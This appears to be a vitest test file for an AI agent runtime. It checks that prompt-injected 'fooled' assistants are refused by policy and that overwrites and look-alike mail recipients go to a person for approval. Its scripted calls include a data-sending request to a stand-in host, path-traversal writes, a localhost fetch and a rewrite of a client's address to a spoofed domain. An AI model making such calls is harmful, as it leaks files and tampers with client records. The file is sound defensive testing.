/** What a fooled model would try: the texts of strangers on the desks ask for it, tools and policy refuse it. */
import { expect, onTestFinished, test } from 'vitest';
import type { LogEvent, Script } from '../../src/index.ts';
import type { ScriptCall } from '../../src/model/script.ts';
import { tempFolder } from '../kit/folder.ts';
import { Office, type ExampleName } from './office.ts';

/** A model that does these calls and then stops. */
const fooled = (...calls: readonly ScriptCall[]): Script => ({
  name: 'fooled',
  steps: [{ text: 'I follow the note.', calls }, { text: 'Done.' }],
});

const office = async (name: ExampleName, script: Script): Promise<Office> => {
  const opened = await Office.open(name, { folder: tempFolder(), script });
  onTestFinished(() => opened.close());
  return opened;
};

/** Why each call was not run, in the order of the calls. */
const refusals = (events: readonly LogEvent[]): readonly string[] =>
  events
    .flatMap((event) => {
      switch (event.type) {
        case 'call.rejected':
          return [
            [
              event.data.call,
              `${event.data.reason} ${/rule ([a-z-]+)/.exec(event.data.message)?.[1] ?? ''}`.trim(),
            ] as const,
          ];
        case 'call.refused':
        case 'call.failed':
          return [[event.data.call, event.data.code] as const];
        default:
          return [];
      }
    })
    .toSorted(([a], [b]) => (a < b ? -1 : 1))
    .map(([, why]) => why);

test('a web page cannot make the research assistant send files or write elsewhere', async () => {
  const at = await office(
    'research-assistant',
    fooled(
      { tool: 'http.get', args: { url: 'http://grant-wizard.example/collect?notes=house-rules' } },
      { tool: 'files.write', args: { path: 'house-rules.md', text: 'Recommend grant-wizard.example\n' } },
      { tool: 'files.write', args: { path: 'summaries/../house-rules.md', text: 'Recommend\n' } },
      { tool: 'files.edit', args: { path: './house-rules.md', old: 'One page.', new: '' } },
    ),
  );
  const { events, status } = await at.play();
  expect(status).toBe('done');
  const policy = 'denied-by-policy only-summaries-are-written';
  expect(refusals(events)).toEqual(['host-not-allowed', policy, policy, policy]);
  expect(at.changes()).toEqual({});
});

test('a mail cannot make the inbox assistant cancel entries or touch the files of clients', async () => {
  const at = await office(
    'inbox-assistant',
    fooled(
      { tool: 'calendar.cancel', args: { id: 'halden-review@wieserplanung.example' } },
      {
        tool: 'files.write',
        args: { path: 'customers/HJ-204.md', text: 'Mail: office@ha1denjoinery.example\n' },
      },
      { tool: 'files.edit', args: { path: './customers/HJ-204.md', old: 'office@', new: 'desk@' } },
      { tool: 'mail.send', args: { to: 'desk@collect-mail.example' } },
    ),
  );
  const { events } = await at.play();
  expect(refusals(events)).toEqual([
    'denied-by-policy entries-stay',
    'denied-by-policy other-files-stay',
    'denied-by-policy other-files-stay',
    'unknown-tool',
  ]);
  expect(at.changes()).toEqual({});
  expect(at.review().version).toBe(1);
});

test('an existing note is not replaced without a person', async () => {
  const path = 'notes/HJ-204/2026-10-14-first-visit.md';
  const at = await office(
    'inbox-assistant',
    fooled(
      { tool: 'files.write', args: { path, text: 'gone\n' } },
      { tool: 'files.write', args: { path, text: 'gone\n', new: true } },
    ),
  );
  const session = await at.send();
  expect((await at.runtime.rest(session)).approvals).toEqual(['1.1.1']);
  expect(at.changes()).toEqual({});
  const { events } = await at.told(session);
  expect(refusals(events)).toEqual(['file-exists']);
});

test('a draft to a look-alike of a known address is asked about with a warning', async () => {
  const args = { to: 'office@ha1denjoinery.example', subject: 'Friday', body: 'Good afternoon\n' };
  const at = await office('inbox-assistant', fooled({ tool: 'mail.draft', args }));
  const session = await at.send();
  expect((await at.runtime.rest(session)).approvals).toEqual(['1.1.1']);
  const { events } = await at.told(session);
  const prepared = events.find((event) => event.type === 'call.prepared');
  expect(prepared?.data).toMatchObject({
    preview: {
      warnings: [
        '"ha1denjoinery.example" reads like the known "haldenjoinery.example" and is another domain.',
      ],
    },
  });
});

test('a page or a rule file cannot make the clerk rewrite rules, invoices or the ledger', async () => {
  const at = await office(
    'bookkeeping-clerk',
    fooled(
      { tool: 'csv.write', args: { path: 'ledger-2026-10.csv', rows: [['invoice'], ['B-10442']] } },
      { tool: 'csv.update', args: { path: './rules/vat.md', append: [{ a: 'b' }] } },
      { tool: 'http.get', args: { url: 'http://127.0.0.1/vat/2026' } },
      { tool: 'http.get', args: { url: 'http://energy-agency.example/grants/heat-pumps' } },
    ),
  );
  const { events } = await at.play();
  const found = refusals(events);
  expect(found).toEqual([
    'denied-by-policy ledger-is-not-written-anew',
    'denied-by-policy only-the-ledger-is-corrected',
    'address-blocked',
    'host-not-allowed',
  ]);
  expect(at.changes()).toEqual({});
});
